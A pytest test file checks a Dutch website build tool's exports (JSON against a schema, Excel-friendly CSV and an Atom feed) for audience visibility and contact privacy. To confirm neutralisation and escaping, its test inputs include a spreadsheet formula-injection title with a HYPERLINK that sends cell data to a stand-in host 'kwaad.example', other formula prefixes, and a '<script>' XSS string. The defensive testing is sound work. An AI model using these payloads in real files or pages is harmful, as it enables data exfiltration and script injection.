"""Exports per audience: JSON (with its schema), CSV for Dutch Excel and the Atom feed."""

from __future__ import annotations

import csv
import dataclasses
import json
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from wwidw_build import audit
from wwidw_build.audience import Audience
from wwidw_build.exports import write_exports
from wwidw_build.exports.as_atom import FEED_SIZE, updated_of
from wwidw_build.exports.as_csv import COLUMNS
from wwidw_build.selection import select

REPO = Path(__file__).resolve().parent.parent
SCHEMA = json.loads((REPO / "schemas" / "export-beschrijvingen.schema.json").read_text("utf-8"))
ATOM = "{http://www.w3.org/2005/Atom}"
AUDIENCES = [
    "openbaar",
    "partners",
    "organisatie:havenstad-wonen",
    "organisatie:gemeente-lindeveen",
]


def export(content, audience: str, site: Path, **options):
    selection = select(content, Audience(audience))
    write_exports(selection, site, **options)
    return selection


def read_json(site: Path) -> dict:
    return json.loads((site / "data" / "beschrijvingen.json").read_text("utf-8"))


def read_csv(site: Path) -> list[list[str]]:
    with (site / "data" / "beschrijvingen.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def with_changed(content, kind: str, doc_id: str, **fields):
    """The content with fields of one description's record changed."""
    records = tuple(
        dataclasses.replace(d, **fields) if (d.kind, d.id) == (kind, doc_id) else d
        for d in content.records
    )
    return dataclasses.replace(content, records=records)


def public_praktijk(content, contact_public: bool | None = None):
    for document in content.records:
        if (
            document.kind == "praktijk"
            and document.zichtbaarheid == "openbaar"
            and not document.concept
            and (
                contact_public is None
                or (document.contact is not None and document.contact.openbaar is contact_public)
            )
        ):
            return document
    pytest.skip("no suitable public praktijk in the content")


# --- JSON
# -------------------------------------------------------------------------------------------------------


def test_schema_is_valid_and_fully_described():
    Draft202012Validator.check_schema(SCHEMA)

    def walk(node, where):
        if isinstance(node, dict):
            if node.get("type") == "object":
                assert node.get("additionalProperties") is False, where
            for name, prop in (node.get("properties") or {}).items():
                if isinstance(prop, dict):
                    assert prop.get("title") and prop.get("description"), f"{where}/{name}"
            for key, value in node.items():
                if key not in ("if", "then", "else"):  # conditions, not property declarations
                    walk(value, f"{where}/{key}")
        elif isinstance(node, list):
            for i, value in enumerate(node):
                walk(value, f"{where}/{i}")

    walk(SCHEMA, "#")


@pytest.mark.parametrize("audience", AUDIENCES)
def test_json_validates_against_schema(content, tmp_path, audience):
    selection = export(content, audience, tmp_path)
    data = read_json(tmp_path)
    validator = Draft202012Validator(SCHEMA, format_checker=Draft202012Validator.FORMAT_CHECKER)
    assert [e.message for e in validator.iter_errors(data)] == []
    assert data["publiek"] == audience
    assert data["aantal"] == len(data["beschrijvingen"]) == len(selection.visible)
    assert {(d["soort"], d["id"]) for d in data["beschrijvingen"]} == {
        (d.kind, d.id) for d in selection.visible
    }
    copied = json.loads((tmp_path / "data" / "beschrijvingen.schema.json").read_text("utf-8"))
    assert copied == SCHEMA


def test_json_carries_the_evidence_record(content, tmp_path):
    """The claim travels with what the design supports, who assessed it and the change log, so an
    export overstates no more than the page does."""
    from wwidw_build.checks.evidence_rules import record_ceiling

    export(content, "openbaar", tmp_path)
    items = {i["id"]: i for i in read_json(tmp_path)["beschrijvingen"] if i["soort"] == "praktijk"}
    records = {d.id: d for d in content.records if d.id in items and d.kind == "praktijk"}
    for doc_id, record in records.items():
        assert items[doc_id]["bewijsniveau_hooguit"] == record_ceiling(record).level
        assert ("beoordeling" in items[doc_id]) == (record.beoordeling is not None)
        assert len(items[doc_id].get("geschiedenis", [])) == len(record.geschiedenis)
    assessed = next(d for d in records.values() if d.beoordeling)
    assert (
        items[assessed.id]["beoordeling"]["geldig_tot"]
        == assessed.beoordeling.geldig_tot.isoformat()
    )
    unintended = next(d for d in records.values() if d.niet_beoogde_effecten)
    assert [r["effect"]["id"] for r in items[unintended.id]["niet_beoogde_effecten"]] == [
        r.effect for r in unintended.niet_beoogde_effecten
    ]
    rows = {row[COLUMNS.index("id")]: dict(zip(COLUMNS, row)) for row in read_csv(tmp_path)[1:]}
    assert rows[assessed.id]["getoetst_door"] == assessed.beoordeling.door
    assert all(rows[i]["bewijsniveau_hooguit"] for i in records)


def test_public_export_has_only_public_descriptions_and_allowed_contacts(content, tmp_path):
    export(content, "openbaar", tmp_path)
    documents = {(d.kind, d.id): d for d in content.records}
    items = read_json(tmp_path)["beschrijvingen"]
    assert items
    for item in items:
        document = documents[(item["soort"], item["id"])]
        assert document.zichtbaarheid == "openbaar" and not document.concept
        contact = getattr(document, "contact", None)
        if "contact" in item:
            assert contact.openbaar is True
        if contact is not None and not contact.openbaar:
            assert "contact" not in item
            assert contact.naam not in json.dumps(item, ensure_ascii=False)
    private = public_praktijk(content, contact_public=False)
    rows = {row[1]: dict(zip(COLUMNS, row)) for row in read_csv(tmp_path)[1:]}
    assert rows[private.id]["contact_naam"] == rows[private.id]["contact_email"] == ""


def test_partners_export_includes_partner_descriptions_and_contacts(content, tmp_path):
    export(content, "partners", tmp_path)
    items = {(d["soort"], d["id"]): d for d in read_json(tmp_path)["beschrijvingen"]}
    partner_only = [d for d in content.documents if d.zichtbaarheid == "partners" and not d.concept]
    assert partner_only and all((d.kind, d.id) in items for d in partner_only)
    assert not any(
        d.zichtbaarheid == "organisatie" and (d.kind, d.id) in items for d in content.documents
    )
    private = [
        d
        for d in content.by_kind("praktijk")
        if (d.kind, d.id) in items and d.meta.get("contact", {}).get("openbaar") is not True
    ]
    assert private
    for document in private:
        contact = items[(document.kind, document.id)]["contact"]
        assert contact["naam"] == document.meta["contact"]["naam"]


def test_organisation_export_includes_its_own_descriptions(content, tmp_path):
    export(content, "organisatie:havenstad-wonen", tmp_path)
    ids = {d["id"] for d in read_json(tmp_path)["beschrijvingen"]}
    own = [
        d
        for d in content.documents
        if d.zichtbaarheid == "organisatie" and d.organisatie == "havenstad-wonen"
    ]
    others = [
        d
        for d in content.documents
        if d.zichtbaarheid == "organisatie" and d.organisatie != "havenstad-wonen"
    ]
    assert own and all(d.id in ids for d in own if not d.concept)
    assert not any(d.id in ids for d in others)


def test_hidden_archetype_is_left_out(content, tmp_path):
    visible_praktijk = public_praktijk(content)
    hidden = content.by_kind("archetype")[0]
    changed = with_changed(content, "archetype", hidden.id, zichtbaarheid="partners")
    changed = with_changed(changed, "praktijk", visible_praktijk.id, archetype=hidden.id)
    export(changed, "openbaar", tmp_path / "openbaar")
    item = next(
        d
        for d in read_json(tmp_path / "openbaar")["beschrijvingen"]
        if d["id"] == visible_praktijk.id
    )
    assert "archetype" not in item
    export(changed, "partners", tmp_path / "partners")
    item = next(
        d
        for d in read_json(tmp_path / "partners")["beschrijvingen"]
        if d["id"] == visible_praktijk.id
    )
    assert item["archetype"] == {
        "id": hidden.id,
        "titel": hidden.titel,
        "url": f"archetypen/{hidden.id}/",
    }


@pytest.mark.parametrize("audience", AUDIENCES)
def test_exports_pass_the_leak_audit(content, tmp_path, audience):
    selection = export(content, audience, tmp_path)
    prints = audit.fingerprints(
        selection.hidden, selection.visible, audit.unique_sequences(content.documents), lambda d: ()
    )
    assert audit.audit_tree(tmp_path, prints) == []


def test_exports_never_touch_the_hidden_part(content, tmp_path):
    class Trap:
        def __getattr__(self, name):
            raise AssertionError(f"export read a hidden description ({name})")

    selection = dataclasses.replace(select(content, Audience("openbaar")), hidden=(Trap(), Trap()))
    write_exports(selection, tmp_path)
    assert (tmp_path / "feed.xml").is_file()


# --- CSV
# --------------------------------------------------------------------------------------------------------


def test_csv_is_excel_friendly_and_round_trips(content, tmp_path):
    export(content, "partners", tmp_path)
    raw = (tmp_path / "data" / "beschrijvingen.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b"\r\n") and raw.count(b"\n") == raw.count(b"\r\n")
    assert raw[3:].split(b"\r\n")[0].decode("utf-8") == ";".join(COLUMNS)
    rows = read_csv(tmp_path)
    items = read_json(tmp_path)["beschrijvingen"]
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(items) + 1 and all(len(row) == len(COLUMNS) for row in rows)
    for row, item in zip(rows[1:], items):
        cells = dict(zip(COLUMNS, row))
        assert (cells["soort"], cells["id"], cells["titel"]) == (
            item["soort"],
            item["id"],
            item["titel"],
        )
        assert cells["samenvatting"] == item["samenvatting"]
        assert cells["volledigheid"] == str(item["volledigheid"])
        for column in ("bereik", "startjaar", "kosten_totaal_eur"):
            assert cells[column] == "" or cells[column].isdigit(), (column, cells[column])
        if item.get("themas"):
            assert cells["themas"] == ", ".join(t["naam"] for t in item["themas"])


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("https://kwaad.example/?x="&A1;"klik hier")',
        "+31 buurten doen mee",
        "-1+1 in de wijk",
        "@SUM(1+1) buurt",
        "\tTab voorop in de titel",
        "\rCR voorop in de titel",
    ],
)
def test_csv_neutralises_formulas(content, tmp_path, title):
    target = public_praktijk(content)
    changed = with_changed(content, "praktijk", target.id, titel=title)
    export(changed, "openbaar", tmp_path)
    cells = next(dict(zip(COLUMNS, row)) for row in read_csv(tmp_path)[1:] if row[1] == target.id)
    assert cells["titel"] == "'" + title
    assert (
        next(d for d in read_json(tmp_path)["beschrijvingen"] if d["id"] == target.id)["titel"]
        == title
    )


# --- Atom feed
# ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("audience", AUDIENCES)
def test_feed_parses_and_lists_the_newest(content, tmp_path, audience):
    selection = export(content, audience, tmp_path)
    root = ET.parse(tmp_path / "feed.xml").getroot()
    assert root.tag == f"{ATOM}feed"
    assert (
        root.findtext(f"{ATOM}title")
        and root.findtext(f"{ATOM}id")
        and root.findtext(f"{ATOM}updated")
    )
    entries = root.findall(f"{ATOM}entry")
    assert len(entries) == min(FEED_SIZE, len(selection.visible)) <= FEED_SIZE
    stamps = [e.findtext(f"{ATOM}updated") for e in entries]
    assert stamps == sorted(stamps, reverse=True)
    assert root.findtext(f"{ATOM}updated") == stamps[0]
    visible = {
        f"{'praktijken' if d.kind == 'praktijk' else 'archetypen'}/{d.id}/"
        for d in selection.visible
    }
    links = [e.find(f"{ATOM}link").get("href") for e in entries]
    assert set(links) <= visible
    assert len({e.findtext(f"{ATOM}id") for e in entries}) == len(entries)
    dated = sorted((updated_of(d) or "" for d in selection.visible), reverse=True)[:FEED_SIZE]
    assert [s[:10] for s in stamps if s[:4] != "1970"] == [d for d in dated if d][: len(stamps)]
    for entry in entries:
        assert entry.findtext(f"{ATOM}title") and entry.find(f"{ATOM}summary") is not None


def test_feed_uses_base_url(content, tmp_path):
    export(content, "openbaar", tmp_path, site_url="https://wwidw.example/openbaar/")
    root = ET.parse(tmp_path / "feed.xml").getroot()
    hrefs = [e.find(f"{ATOM}link").get("href") for e in root.findall(f"{ATOM}entry")]
    assert hrefs and all(
        h.startswith("https://wwidw.example/openbaar/") and "//" not in h[8:] for h in hrefs
    )


def test_feed_escapes_markup(content, tmp_path):
    target = public_praktijk(content)
    title = '<script>alert("x")</script> & Buurt'
    changed = with_changed(
        content,
        "praktijk",
        target.id,
        titel=title,
        laatst_bijgewerkt=date(2099, 12, 31),
        samenvatting="Een <b>vette</b> samenvatting\x07 met een besturingsteken.",
    )
    export(changed, "openbaar", tmp_path)
    raw = (tmp_path / "feed.xml").read_text("utf-8")
    assert "<script>" not in raw and "&lt;script&gt;" in raw
    first = ET.parse(tmp_path / "feed.xml").getroot().find(f"{ATOM}entry")
    assert first.findtext(f"{ATOM}title") == title
    assert (
        first.findtext(f"{ATOM}summary") == "Een <b>vette</b> samenvatting met een besturingsteken."
    )
    assert first.find(f"{ATOM}link").get("href") == f"praktijken/{target.id}/"
